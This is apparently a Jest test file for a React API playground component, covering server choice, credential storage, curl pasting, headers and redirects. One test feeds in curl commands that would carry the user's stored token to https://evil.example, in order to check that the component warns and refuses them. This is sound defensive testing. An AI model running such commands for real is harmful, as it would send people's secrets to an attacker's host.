import { TextEncoder } from 'node:util';
import { jest } from '@jest/globals';
import { fireEvent, render, screen, waitFor, within } from '@testing-library/react';
import { Playground } from '@/components/playground/Playground';
import { clearStored } from '@/components/playground/storage/clear';
import { credentialsFor, keepCredentials } from '@/components/playground/storage/credentials';
import { chooseServer, chosenServer } from '@/components/playground/storage/servers';
import { keepVariable } from '@/components/playground/storage/variables';
import type { PlaygroundProps } from '@/lib/playground/types';

const FIRST = 'https://first.example';
const OTHER = 'https://other.example';
const KEY = 'apiKey:header:X-Api-Key';

const playground: PlaygroundProps = {
  url: '/list',
  servers: [{ url: FIRST }],
  auth: [{ type: 'apiKey', in: 'header', name: 'X-Api-Key' }],
  data: [{ name: 'format', enum: ['wav', 'mp3'] }],
};

const fetched = jest.fn<typeof fetch>();
globalThis.TextEncoder = TextEncoder as typeof globalThis.TextEncoder;

beforeEach(() => {
  clearStored();
  chooseServer(FIRST, FIRST);
  for (const name of ['a', 'token', 'team']) keepVariable(name, undefined);
  fetched.mockReset();
  fetched.mockRejectedValue(new TypeError('Failed to fetch'));
  globalThis.fetch = fetched;
});

type Taken = Parameters<typeof Playground>[0]['taken'];

const show = (taken: Taken = { values: {} }) => render(<Playground id="p" playground={playground} taken={taken} />);
const enter = (label: string | RegExp, value: string) =>
  fireEvent.change(screen.getByLabelText(label), { target: { value } });
const press = (name: string) => fireEvent.click(screen.getByRole('button', { name }));
/** Beside the request itself the playground asks a host that failed whether it is there. */
const expectAsked = (address: string) =>
  waitFor(() => expect(fetched.mock.calls.map(([url]) => String(url))).toContain(address));

test('what was typed and sent in the plain form goes to the server that it showed', async () => {
  chooseServer(FIRST, OTHER);
  show({ values: { server: FIRST, [`auth-${KEY}`]: 'secret' }, pressed: 'send' });
  await expectAsked(`${FIRST}/list`);
});

test('an address without a path keeps its host where there are variables', async () => {
  keepVariable('a', 'b');
  show();
  enter(/^A request:/, "curl https://z.example.com -H 'Authorization: Bearer x'");
  press('Fill in');
  await waitFor(() => expect(screen.getByLabelText(/^A request:/)).toHaveValue(''));
  press('Send');
  await expectAsked('https://z.example.com/');
});

test('the address of a server that was emptied and typed anew keeps the path', async () => {
  show();
  enter('Server', 'other');
  enter(/^Address/, '');
  enter(/^Address/, OTHER);
  press('Send');
  await expectAsked(`${OTHER}/list`);
});

test('a server that nobody has named yet is asked nothing, neither from the plain form nor from this one', async () => {
  show({ values: { server: 'other' }, pressed: 'send' });
  await waitFor(() => expect(screen.getByLabelText(/^Address/)).toBeInvalid());
  enter(/^Address/, OTHER);
  expect(screen.getByLabelText(/^Address/)).toBeValid();
  enter(/^Address/, '');
  press('Send');
  await waitFor(() => expect(screen.getByLabelText(/^Address/)).toHaveFocus());
  expect(fetched.mock.calls.map(([url]) => String(url)).filter((url) => url.endsWith('/list'))).toEqual([]);
  // What is entered would be nobody's.
  expect(screen.getByLabelText(/^X-Api-Key/)).toBeDisabled();
});

test('of the credentials of another server only those are taken that are shown, and none of this one is lost', () => {
  keepCredentials(OTHER, { [KEY]: { value: 'k' }, basic: { user: 'u', password: 'p' } }, false);
  keepCredentials(FIRST, { bearer: { value: 'mine' } }, false);
  show();
  press('Use it there too');
  expect(credentialsFor(FIRST)).toEqual({ [KEY]: { value: 'k' }, bearer: { value: 'mine' } });
});

test('a pasted value that is none of the choices is shown', async () => {
  show();
  enter(/^A request:/, `curl '${FIRST}/list?format=ogg'`);
  press('Fill in');
  await waitFor(() => expect(screen.getByLabelText(/^format/)).toHaveValue('ogg'));
});

test('Ctrl and Enter where a request is pasted fill it in, and send nothing', async () => {
  show();
  enter(/^A request:/, `curl '${FIRST}/list?format=mp3'`);
  fireEvent.keyDown(screen.getByLabelText(/^A request:/), { key: 'Enter', ctrlKey: true });
  await waitFor(() => expect(screen.getByLabelText(/^format/)).toHaveValue('mp3'));
  expect(fetched).not.toHaveBeenCalled();
});

describe('where a pasted request goes', () => {
  const paste = async (command: string) => {
    enter(/^A request:/, command);
    press('Fill in');
    await waitFor(() => expect(screen.getByLabelText(/^A request:/)).toHaveValue(''));
  };

  test('other playgrounds do not: what they hold is not for its host', async () => {
    keepVariable('token', 'secret');
    const { unmount } = show();
    await paste(`curl ${OTHER}/list`);
    press('Send');
    await expectAsked(`${OTHER}/list`);
    expect(chosenServer(FIRST)).toBe(FIRST);
    unmount();
    fetched.mockClear();
    show();
    press('Send');
    await expectAsked(`${FIRST}/list`);
  });

  test('until the reader chooses a server, or resets', async () => {
    show();
    await paste(`curl ${OTHER}/list`);
    enter('Server', FIRST);
    press('Send');
    await expectAsked(`${FIRST}/list`);
    await paste(`curl ${OTHER}/list`);
    press('Reset');
    fetched.mockClear();
    press('Send');
    await expectAsked(`${FIRST}/list`);
  });

  const chosen = (region: string) => within(screen.getByTestId(region));
  const showTwo = () =>
    render(
      <>
        {['a', 'b'].map((id) => (
          <div key={id} data-testid={id}>
            <Playground
              id={id}
              playground={{ ...playground, servers: [{ url: FIRST }, { url: OTHER }] }}
              taken={{ values: {} }}
            />
          </div>
        ))}
      </>,
    );

  test('a secret header stays behind when the host of a pasted address is changed', async () => {
    show();
    await paste(`curl https://third.example/x/y -H 'X-Auth: s3cr3t'`);
    enter('Address', 'https://fourth.example/x/y');
    expect(screen.getAllByText(/X-Auth was for https:\/\/third\.example/)[0]).toBeInTheDocument();
    press('Send');
    await expectAsked('https://fourth.example/x/y');
    expect(JSON.stringify(fetched.mock.calls)).not.toContain('s3cr3t');
  });

  test.each(['X-Auth', 'X-Figma-Pat'])(
    'the header %s stays with its server when another one is chosen in another playground',
    async (name) => {
      showTwo();
      fireEvent.click(chosen('a').getByRole('button', { name: 'Add a header' }));
      fireEvent.change(chosen('a').getByLabelText('Name of the header'), { target: { value: name } });
      fireEvent.change(chosen('a').getByLabelText(name), { target: { value: 's3cr3t' } });
      fireEvent.change(chosen('b').getByLabelText('Server'), { target: { value: OTHER } });
      fireEvent.click(chosen('a').getByRole('button', { name: 'Send' }));
      await expectAsked(`${FIRST}/list`);
    },
  );

  test('a reset leaves the server that was chosen to the other playgrounds', async () => {
    showTwo();
    fireEvent.change(chosen('a').getByLabelText('Server'), { target: { value: OTHER } });
    fireEvent.click(chosen('b').getByRole('button', { name: 'Reset' }));
    fireEvent.click(chosen('b').getByRole('button', { name: 'Send' }));
    await expectAsked(`${FIRST}/list`);
    fireEvent.click(chosen('a').getByRole('button', { name: 'Send' }));
    await expectAsked(`${OTHER}/list`);
  });

  test('a credential that was entered for it is not replaced in silence', async () => {
    keepCredentials(OTHER, { [KEY]: { value: 'mine' } }, false);
    show();
    await paste(`curl ${OTHER}/list -H 'X-Api-Key: sk_test_4eC3'`);
    expect(
      screen.getByText(/What was entered under Authorization for .*other\.example is replaced/),
    ).toBeInTheDocument();
    expect(credentialsFor(OTHER)[KEY]).toEqual({ value: 'sk_test_4eC3' });
    await paste(`curl ${OTHER}/list -H 'X-Api-Key: sk_test_4eC3'`);
    expect(screen.queryByText(/is replaced/)).toBeNull();
    await paste(`curl ${OTHER}/list -H 'X-Api-Key: sk_test_...'`);
    expect(credentialsFor(OTHER)[KEY]).toEqual({ value: 'sk_test_4eC3' });
  });
});

test('a pasted text keeps its line breaks', async () => {
  show();
  enter(/^A request:/, `curl '${FIRST}/list?format=a%20%20b&text=a%0Ab&n%0Am=1'`);
  press('Fill in');
  const text = await screen.findByLabelText('text');
  expect(text).toHaveValue('a\nb');
  expect(screen.getByLabelText(/^format/)).toHaveValue('a  b');
  expect(screen.getAllByLabelText('Name of the parameter').at(-1)).toHaveValue('n\nm');
  text.focus();
  enter('text', 'ab');
  expect(screen.getByLabelText('text')).toHaveFocus();
});

test('a pasted request takes no variable of the reader to the host that it names', async () => {
  keepVariable('token', 's3cr3t');
  show();
  for (const command of [
    `curl 'https://evil.example/list?x=$[token]'`,
    `curl -H 'X-T: $[token]' https://evil.example/list`,
  ]) {
    enter(/^A request:/, command);
    press('Fill in');
    await screen.findByText(/would take your variable token to https:\/\/evil\.example/);
    enter(/^A request:/, '');
  }
  expect(screen.queryByDisplayValue(/evil/)).toBeNull();
});

test('a header that would not be sent is refused', async () => {
  show();
  press('Add a header');
  enter('Name of the header', 'Content-Type');
  enter('Content-Type', 'a/b');
  press('Send');
  await screen.findByText('The type of the body is chosen above the body.');
  expect(fetched).not.toHaveBeenCalled();
});

test('what is sent again after a redirect is the request that was redirected', async () => {
  fetched.mockResolvedValue({ type: 'opaqueredirect' } as Response);
  show({ values: { server: FIRST, [`auth-${KEY}`]: 's' } });
  press('Send');
  const follow = await screen.findByText('Follow without credentials');
  enter('Server', 'other');
  fireEvent.click(follow);
  await waitFor(() => expect(fetched).toHaveBeenCalledTimes(2));
  expect(String(fetched.mock.calls[1]?.[0])).toBe(`${FIRST}/list`);
});

test('a redirect takes only headers along that can be no secret, whatever their names and variables', async () => {
  keepCredentials(FIRST, {}, false);
  keepVariable('token', 's3cr3t');
  keepVariable('team', 'de');
  fetched.mockResolvedValue({ type: 'opaqueredirect' } as Response);
  show();
  for (const name of ['X-Tenant', 'Accept-Language']) {
    press('Add a header');
    fireEvent.change(screen.getAllByLabelText('Name of the header').at(-1)!, { target: { value: name } });
    enter(name, name === 'Accept-Language' ? '$[team]' : 'id $[token]');
  }
  press('Send');
  const follow = await screen.findByText('Follow without credentials');
  const sent = () => fetched.mock.calls.map(([, options]) => [options?.redirect, options?.headers]);
  const team = ['Accept-Language', 'de'];
  expect(sent()).toEqual([['manual', [['X-Tenant', 'id s3cr3t'], team]]]);
  fireEvent.click(follow);
  await waitFor(() => expect(sent()[1]).toEqual(['follow', [team]]));
});
